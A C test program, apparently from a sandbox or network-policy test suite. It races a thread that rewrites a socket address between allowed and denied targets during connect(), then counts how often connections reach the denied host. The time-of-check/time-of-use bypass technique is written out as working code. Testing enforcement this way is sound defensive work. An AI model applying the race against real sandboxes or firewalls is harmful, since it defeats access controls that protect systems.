/*
 * Attack: a racing thread rewrites the sockaddr between ALLOWED and DENIED
 * while the main thread calls connect() on it (TCP, or UDP with "udp").
 * After every successful connect the real peer is read with getpeername();
 * a UDP socket then sends a datagram to whatever it is connected to.
 * usage: race_connect PORT [UDPPORT] [tcp|udp]
 */
#include "race.h"

static struct sockaddr_in target;

int
main(int argc, char **argv)
{
	int udp = argc > 3 && !strcmp(argv[3], "udp");
	int port, n = 0, to_allowed = 0, to_denied = 0, eacces = 0, other = 0;
	int lasterr = 0;
	double started;
	pthread_t t;

	ports(argc, argv);
	port = udp ? udp_port : tcp_port;
	target = sin4(ALLOWED, port);
	t = addr_racer_start(&target);
	started = now_s();
	for (n = 0; race_goes_on(n, 5000, started, to_allowed && eacces); n++) {
		/* on a loaded machine the racer may get no CPU: let it run */
		racer_ran();
		int fd = socket(AF_INET, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK, 0);
		int rc, e = 0;

		if (fd < 0) {
			other++;
			lasterr = errno;
			continue;
		}
		rc = connect(fd, (struct sockaddr *)&target, sizeof(target));
		if (rc < 0)
			e = errno;
		if (e == EINPROGRESS)
			e = finish_connect(fd, 1000);
		if (e == 0) {
			switch (peer_host(fd)) {
			case 2: to_allowed++; break;
			case 3: to_denied++; break;
			default: other++; break;
			}
			if (send(fd, "race-connect", 12, MSG_NOSIGNAL) < 0)
				lasterr = errno;
		} else if (denied_errno(e)) {
			eacces++;
		} else {
			other++;
			lasterr = e;
		}
		close(fd);
	}
	addr_racer_stop(t);
	printf("race_connect %s: iterations=%d to_allowed=%d to_denied=%d eacces=%d other=%d last_other=%s\n",
	    udp ? "udp" : "tcp", n, to_allowed, to_denied, eacces, other, ename(lasterr));
	return 0;
}
